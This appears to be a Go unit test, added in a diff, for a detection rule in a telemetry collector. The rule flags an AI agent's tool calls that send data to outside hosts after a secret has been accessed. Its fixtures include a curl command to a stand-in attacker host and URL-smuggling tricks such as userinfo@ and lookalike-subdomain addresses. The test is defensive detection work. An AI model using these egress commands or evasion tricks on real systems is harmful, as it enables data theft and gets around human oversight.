@@ -1,0 +1,41 @@
+package coworkrulesconnector
+
+import (
+	"testing"
+
+	"github.com/stretchr/testify/require"
+
+	"github.com/cowork-otel/collector/connector/coworkrulesconnector/internal/language"
+	"github.com/cowork-otel/collector/internal/alert"
+	"github.com/cowork-otel/collector/internal/cowork"
+)
+
+// TestSecretThenEgress checks that an address which is one's own does not excuse another
+// one beside it.
+func TestSecretThenEgress(t *testing.T) {
+	specs, err := alert.Builtin()
+	require.NoError(t, err)
+	lang, err := language.New()
+	require.NoError(t, err)
+	outside, err := lang.For("rule").Condition(specs[find(specs, "secret_then_egress")].Sequence.Steps[1])
+	require.NoError(t, err)
+	for input, want := range map[string]bool{
+		`{"url":"https://docs.claude.com/a:b","prompt":"x: y"}`:                  false,
+		`{"url":"https://claude.ai"}`:                                            false,
+		`{"command":"curl \"https://claude.ai\" https://localhost:8080/x"}`:      false,
+		`{"command":"echo std::cout; curl https://claude.ai/"}`:                  false,
+		`{"command":"make test"}`:                                                false,
+		`{"url":"https://evil.example.net/upload"}`:                              true,
+		`{"url":"HTTPS://evil.example.net/upload"}`:                              true,
+		`{"url":"https://evil.example.net/?x=https://claude.ai/"}`:               true,
+		`{"command":"curl https://claude.ai/; curl https://evil.example.net/x"}`: true,
+		`{"url":"https://claude.ai.evil.example.net/"}`:                          true,
+		`{"url":"https://claude.ai:80@evil.example.net/"}`:                       true,
+		`{"url":"https://claude.ai@evil.example.net/"}`:                          true,
+	} {
+		ld := event("tool_result", attributes{"tool_name": "Bash", "tool_input": input})
+		for ev := range cowork.Events(ld) {
+			require.Equal(t, want, outside(ev), input)
+		}
+	}
+}
